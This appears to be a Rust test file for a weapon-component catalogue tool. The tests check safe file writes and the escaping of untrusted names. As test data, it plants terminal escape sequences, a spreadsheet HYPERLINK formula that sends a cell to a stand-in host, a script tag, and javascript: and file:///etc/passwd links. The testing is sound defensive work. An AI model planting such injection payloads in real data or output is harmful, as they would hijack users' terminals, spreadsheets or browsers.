//! Outputs that cannot be turned against the user (issue 15, items 7 to 10): a named output
//! never replaces the catalogue or an existing file unasked; names from someone's file reach
//! a terminal, a spreadsheet or a web page without acting there; and a write cut short leaves
//! nothing half-done that blocks the retry.

use std::path::{Path, PathBuf};
use std::process::Output;

use crate::util::{Env, SAMPLE};

fn sample() -> Env {
    let env = Env::with_catalogue();
    env.ok(&["import", SAMPLE]);
    env
}

/// Every file name in `dir`, sorted.
fn names(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .map(|entries| {
            entries
                .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
                .collect()
        })
        .unwrap_or_default();
    names.sort();
    names
}

/// Names in `dir` that an interrupted write would leave (`.NAME.incoming-…`).
fn temporaries(dir: &Path) -> Vec<String> {
    names(dir)
        .into_iter()
        .filter(|n| n.contains(".incoming-"))
        .collect()
}

/// Runs the binary with no file it writes allowed past `kib` KiB, as a full disk would stop
/// it (EFBIG; SIGXFSZ ignored so the write fails instead of killing the process), within 60 s.
fn with_file_limit(env: &Env, kib: u64, args: &[&str]) -> Output {
    env.limited(&format!("ulimit -f {kib}"), args)
}

const REPORTS: [&[&str]; 4] = [
    &["report", "origin"],
    &["report", "manufacturer", "Texas Instruments"],
    &["report", "weapon", "Shahed-136"],
    &["report", "date-codes"],
];

const FORMATS: [&str; 5] = ["table", "md", "csv", "json", "html"];

#[test]
fn report_out_never_replaces_the_catalogue_and_replaces_a_file_only_with_force() {
    let env = sample();
    std::os::unix::fs::symlink(&env.db, env.dir.path().join("link.db")).unwrap();
    let before = env.fingerprint();
    let db = env.db.to_str().unwrap().to_string();
    let wal = format!("{db}-wal");
    let shm = format!("{db}-shm");
    let in_store = format!("{db}-evidence/notes.txt");
    let dotted = env
        .dir
        .path()
        .join("sub/../catalogue.db")
        .to_string_lossy()
        .into_owned();
    std::fs::create_dir(env.dir.path().join("sub")).unwrap();
    for report in REPORTS {
        for format in FORMATS {
            for target in [&db, &wal, &shm, &in_store, &dotted, &"link.db".to_string()] {
                for force in [false, true] {
                    let mut args = report.to_vec();
                    args.extend(["--format", format, "--out", target]);
                    if force {
                        args.push("--force");
                    }
                    let err = env.fails(&args);
                    assert!(err.contains("that is the catalogue"), "{args:?}: {err}");
                }
            }
            // an existing file: refused, then replaced with --force
            let out = env.write("report.out", "keep me");
            let out = out.to_str().unwrap();
            let mut args = report.to_vec();
            args.extend(["--format", format, "--out", out]);
            let err = env.fails(&args);
            assert!(err.contains("already exists; add --force"), "{err}");
            assert_eq!(std::fs::read_to_string(out).unwrap(), "keep me");
            args.push("--force");
            env.ok(&args);
            assert_ne!(std::fs::read_to_string(out).unwrap(), "keep me");
        }
    }
    assert_eq!(env.fingerprint(), before, "the catalogue is untouched");
    env.ok(&["check"]);
    // the other commands that write a file the user names keep to the same rule
    let listed = env.write("names.csv", "name\nTexas Instruments\nTexas Instr.\n");
    let listed = listed.to_str().unwrap();
    let bad = env.write("bad.csv", "weapon,component,found_on\nX,y,not a date\n");
    let bad = bad.to_str().unwrap();
    for args in [
        vec![
            "cluster",
            "--kind",
            "manufacturers",
            listed,
            "--out",
            &db,
            "--force",
        ],
        vec![
            "cluster",
            "--kind",
            "manufacturers",
            listed,
            "--out",
            "link.db",
            "--force",
        ],
        vec!["export", "--format", "jsonl", "--out", &wal],
        vec!["export", "--format", "csv", "--out", &in_store],
        vec!["backup", &db],
        vec!["backup", "link.db"],
        vec!["import", bad, "--skip-invalid", "--rejects", &shm],
    ] {
        let err = env.fails(&args);
        assert!(err.contains("that is the catalogue"), "{args:?}: {err}");
    }
    assert_eq!(env.fingerprint(), before, "the catalogue is untouched");
    let existing = env.write("taken.csv", "keep me");
    let existing = existing.to_str().unwrap();
    for args in [
        vec![
            "cluster",
            "--kind",
            "manufacturers",
            listed,
            "--out",
            existing,
        ],
        vec!["export", "--format", "jsonl", "--out", existing],
        vec!["backup", existing],
        vec!["import", bad, "--skip-invalid", "--rejects", existing],
    ] {
        env.fails(&args);
        assert_eq!(
            std::fs::read_to_string(existing).unwrap(),
            "keep me",
            "{args:?}"
        );
    }
    env.ok(&[
        "cluster",
        "--kind",
        "manufacturers",
        listed,
        "--out",
        existing,
        "--force",
    ]);
    assert!(std::fs::read_to_string(existing)
        .unwrap()
        .contains("cluster"));
    // a link is not replaced even with --force: renaming onto it would replace the link, not
    // write where it points (`--out /dev/stdout --force`)
    std::os::unix::fs::symlink(existing, env.dir.path().join("to-taken.csv")).unwrap();
    let err = env.fails(&["report", "origin", "--out", "to-taken.csv", "--force"]);
    assert!(err.contains("not a regular file"), "{err}");
}

/// A finding whose names carry terminal control sequences and a right-to-left override.
const TITLE: &str = "Ger\u{1b}]0;pwned\u{7}bera";
const CLEAR: &str = "\u{1b}[2JEvil\u{202e}Corp\u{9b}";

fn assert_no_raw_controls(what: &str, text: &str) {
    for c in ['\u{1b}', '\u{7}', '\u{202e}', '\u{9b}'] {
        assert!(!text.contains(c), "{what} prints {c:?} raw: {text:?}");
    }
}

#[test]
fn control_characters_in_names_are_shown_escaped_to_people_and_kept_exact() {
    let env = Env::with_catalogue();
    env.ok(&[
        "log",
        "--weapon",
        TITLE,
        "--component",
        "flight controller",
        "--manufacturer",
        CLEAR,
    ]);
    for args in [
        vec!["weapons"],
        vec!["manufacturers"],
        vec!["parts"],
        vec!["search", "pwned"],
        vec!["search", "Evil"],
        vec!["report", "origin"],
        vec!["report", "origin", "--format", "md"],
        vec!["report", "origin", "--format", "html"],
        vec!["show", "part", "flight controller"],
    ] {
        let out = env.cmd().args(&args).output().unwrap();
        assert!(out.status.success(), "{args:?}");
        let shown = String::from_utf8(out.stdout).unwrap();
        let stderr = String::from_utf8(out.stderr).unwrap();
        assert_no_raw_controls(&format!("{args:?}"), &shown);
        assert_no_raw_controls(&format!("{args:?} (stderr)"), &stderr);
        if args[0] != "search" || args[1] == "pwned" {
            assert!(
                shown.contains("\\u{1b}"),
                "{args:?} shows the escapes: {shown}"
            );
        }
    }
    // the stored text is as it was written: JSON gives it exactly
    let weapons = env.json(&["weapons", "--format", "json"]);
    assert_eq!(weapons[0]["name"], TITLE);
    let makers = env.json(&["manufacturers", "--format", "json"]);
    assert_eq!(makers[0]["name"], CLEAR);
    // an import error quoting a field
    let bad = env.write(
        "bad.csv",
        format!("weapon,component,found_on\nX,y,{}\n", "\u{1b}]0;t\u{7}x"),
    );
    let err = env.fails(&["import", bad.to_str().unwrap()]);
    assert_no_raw_controls("an import error", &err);
    assert!(
        err.contains("bad.csv:2") && err.contains("\\u{1b}]0;t\\u{7}x"),
        "{err}"
    );
    // a name that differs from an existing one only by characters no one sees is flagged,
    // with its line and both spellings, and imported as written
    let file = env.write(
        "lookalike.csv",
        "weapon,component,manufacturer\nShahed-136,gps,Texas Instruments\nShahed-136,fc,Texas\u{200b}Instru\u{ad}ments\n",
    );
    let said = env.ok_stderr(&["import", file.to_str().unwrap()]);
    assert!(
        said.contains(
            "lookalike.csv:3: manufacturer \"Texas\\u{200b}Instru\\u{ad}ments\" reads as \"TexasInstruments\""
        ),
        "{said}"
    );
    let makers = env.json(&["manufacturers", "--format", "json"]);
    let spellings = makers.to_string();
    assert!(
        spellings.contains("Texas\u{200b}Instru\u{ad}ments"),
        "{spellings}"
    );
}

/// A maker whose name a spreadsheet would run, and a source whose address is a script.
fn planted() -> Env {
    let env = Env::with_catalogue();
    env.ok(&[
        "log",
        "--weapon",
        "Gerbera",
        "--component=-5V regulator",
        "--manufacturer",
        "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
        "--source-publisher",
        "<script>alert(1)</script> *News*",
        "--source-url",
        "javascript:alert(1)",
    ]);
    env.ok(&[
        "log",
        "--weapon",
        "Gerbera",
        "--component",
        "camera",
        "--manufacturer",
        "@SUM(1+1)",
        "--source-url",
        "file:///etc/passwd",
    ]);
    env
}

/// Every cell of a CSV text, by row.
fn cells(csv: &str) -> Vec<Vec<String>> {
    csv::Reader::from_reader(csv.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

#[test]
fn csv_cells_a_spreadsheet_would_run_are_neutralised_and_exact_where_they_must_be() {
    let env = planted();
    let runs = |cell: &str| cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    for args in [
        vec!["manufacturers", "--format", "csv"],
        vec!["parts", "--format", "csv"],
        vec!["search", "1", "--format", "csv"],
        vec!["report", "origin", "--format", "csv"],
        vec!["report", "weapon", "Gerbera", "--format", "csv"],
    ] {
        let out = env.ok(&args);
        let rows = cells(&out);
        assert!(!rows.is_empty(), "{args:?}");
        for cell in rows.iter().flatten() {
            assert!(!runs(cell), "{args:?} writes a formula cell: {cell:?}");
        }
        assert!(
            out.contains("'=HYPERLINK") || out.contains("'-5V") || out.contains("'@SUM"),
            "{args:?}: {out}"
        );
        // --csv-raw gives the exact text
        let mut raw = args.clone();
        raw.push("--csv-raw");
        let exact = env.ok(&raw);
        assert!(
            exact.contains("=HYPERLINK") && !exact.contains("'=HYPERLINK")
                || exact.contains("-5V") && !exact.contains("'-5V"),
            "{raw:?}: {exact}"
        );
    }
    // counted numbers are not text: never prefixed
    let origin = cells(&env.ok(&["report", "origin", "--format", "csv"]));
    assert!(
        origin.iter().any(|r| r.contains(&"2".to_string())),
        "{origin:?}"
    );
    // JSON is exact
    let makers = env.json(&["manufacturers", "--format", "json"]);
    assert!(makers.to_string().contains("\"@SUM(1+1)\""), "{makers}");
    // the export keeps the exact text (it must import again), with a note on opening it
    env.ok(&["export", "--format", "csv", "--out", "ex"]);
    let findings = std::fs::read_to_string(env.dir.path().join("ex/findings.csv")).unwrap();
    assert!(
        findings.contains("@SUM(1+1)") && !findings.contains("'@SUM"),
        "{findings}"
    );
    let note = std::fs::read_to_string(env.dir.path().join("ex/OPENING-IN-A-SPREADSHEET.txt"))
        .expect("the export folder carries the note");
    assert!(note.contains("formula"), "{note}");
    // Markdown escapes HTML and Markdown; HTML and FtM carry only web addresses
    let md = env.ok(&["report", "weapon", "Gerbera", "--format", "md"]);
    assert!(
        !md.contains("<script>") && md.contains("&lt;script&gt;"),
        "{md}"
    );
    assert!(md.contains("\\*News\\*"), "{md}");
    let html = env.ok(&["report", "weapon", "Gerbera", "--format", "html"]);
    assert!(
        !html.contains("href=\"javascript") && !html.contains("href=\"file"),
        "{html}"
    );
    let ftm = env.ok(&["export", "--format", "ftm"]);
    for line in ftm.lines() {
        let e: serde_json::Value = serde_json::from_str(line).unwrap();
        for url in e["properties"]["sourceUrl"]
            .as_array()
            .into_iter()
            .flatten()
        {
            assert!(url.as_str().unwrap().starts_with("http"), "{line}");
        }
    }
    assert!(
        ftm.contains("not a web link): javascript:alert(1)"),
        "{ftm}"
    );
}

/// The size of what a command writes to `name` when nothing stops it, in KiB.
fn size_kib(path: &Path) -> u64 {
    let meta = std::fs::metadata(path).unwrap();
    if meta.is_dir() {
        std::fs::read_dir(path)
            .unwrap()
            .map(|e| e.unwrap().metadata().unwrap().len())
            .max()
            .unwrap_or(0)
            / 1024
    } else {
        meta.len() / 1024
    }
}

/// Runs `args` (writing `target`) under a file-size limit of half what it writes: it must fail
/// naming the file, leave neither the file nor a temporary, and succeed when run again freely.
fn cut_short_then_retried(env: &Env, args: &[&str], target: &Path, full_kib: u64) {
    let limit = (full_kib / 2).max(1);
    let out = with_file_limit(env, limit, args);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(
        out.status.code(),
        Some(1),
        "{args:?} under {limit} KiB: {err}"
    );
    let name = target.file_name().unwrap().to_string_lossy();
    assert!(
        err.contains(&*name),
        "{args:?}: the error names {name}: {err}"
    );
    assert!(!target.exists(), "{args:?} left {}", target.display());
    let folder = target.parent().unwrap();
    assert_eq!(temporaries(folder), Vec::<String>::new(), "{args:?}");
    env.ok(args);
    assert!(target.exists());
}

/// A catalogue whose exports and reports run to hundreds of KiB, so that half of each is well
/// past what SQLite's own files beside it need (its 32 KiB shared-memory index) and is cut.
fn large() -> Env {
    let env = Env::with_catalogue();
    let mut csv = String::from(crate::util::HEADER);
    csv.push('\n');
    for i in 0..3000 {
        csv.push_str(&format!(
            "W{},RU,part {i},P{i}X,,Maker{} Inc,US,,,,2024-01-01,,Publisher {},A report on part {i} and what it was found in,https://e.org/{i},2024-01-01,,,a note long enough to make every row of the export take some room on disk\n",
            i % 4,
            i % 300,
            i % 40
        ));
    }
    let file = env.write("large.csv", csv);
    env.ok(&["import", file.to_str().unwrap()]);
    env
}

#[test]
fn a_full_disk_leaves_nothing_half_written_and_the_retry_succeeds() {
    let env = large();
    let dir = env.dir.path().to_path_buf();
    let path = |name: &str| -> PathBuf { dir.join(name) };
    // what each writes when nothing stops it, to set a limit of half that
    env.ok(&["export", "--format", "jsonl", "--out", "full.jsonl"]);
    env.ok(&["export", "--format", "csv", "--out", "full-csv"]);
    env.ok(&[
        "report",
        "weapon",
        "W1",
        "--format",
        "html",
        "--out",
        "full.html",
    ]);
    let jsonl = size_kib(&path("full.jsonl"));
    let csv = size_kib(&path("full-csv"));
    let html = size_kib(&path("full.html"));
    assert!(
        jsonl >= 200 && csv >= 200 && html >= 200,
        "{jsonl} {csv} {html}"
    );
    let before = env.fingerprint();
    cut_short_then_retried(
        &env,
        &["export", "--format", "jsonl", "--out", "x.jsonl"],
        &path("x.jsonl"),
        jsonl,
    );
    assert_eq!(
        std::fs::read(path("x.jsonl")).unwrap(),
        std::fs::read(path("full.jsonl")).unwrap()
    );
    cut_short_then_retried(
        &env,
        &["export", "--format", "csv", "--out", "x-csv"],
        &path("x-csv"),
        csv,
    );
    assert_eq!(names(&path("x-csv")), names(&path("full-csv")));
    cut_short_then_retried(
        &env,
        &[
            "report", "weapon", "W1", "--format", "html", "--out", "x.html",
        ],
        &path("x.html"),
        html,
    );
    assert_eq!(env.fingerprint(), before);
    // a backup: DEST appears only complete
    let catalogue = std::fs::metadata(&env.db).unwrap().len() / 1024;
    cut_short_then_retried(&env, &["backup", "b.db"], &path("b.db"), catalogue);
    let copy = Env {
        dir: tempfile::tempdir().unwrap(),
        db: path("b.db"),
    };
    copy.ok(&["check"]);
    // a name SQLite keeps for a catalogue's own files is refused, not "backed up" into them
    let err = env.fails(&["backup", "elsewhere.db-wal"]);
    assert!(err.contains("-wal"), "{err}");
    assert!(!path("elsewhere.db-wal").exists());
    // evidence: a file too large for the disk leaves no partial or temporary file in the store
    let catalogue = std::fs::metadata(&env.db).unwrap().len() / 1024;
    let photo = env.write("photo.jpg", vec![7u8; (catalogue as usize + 2048) << 10]);
    let store = path("catalogue.db-evidence");
    let log = [
        "log",
        "--weapon",
        "Gerbera",
        "--component",
        "camera",
        "--evidence-file",
        photo.to_str().unwrap(),
    ];
    let out = with_file_limit(&env, catalogue + 1024, &log);
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        names(&store),
        Vec::<String>::new(),
        "nothing left in the store"
    );
    assert_eq!(env.fingerprint(), before);
    env.ok(&log);
    assert_eq!(names(&store).len(), 1);
    assert_eq!(temporaries(&store), Vec::<String>::new());
}
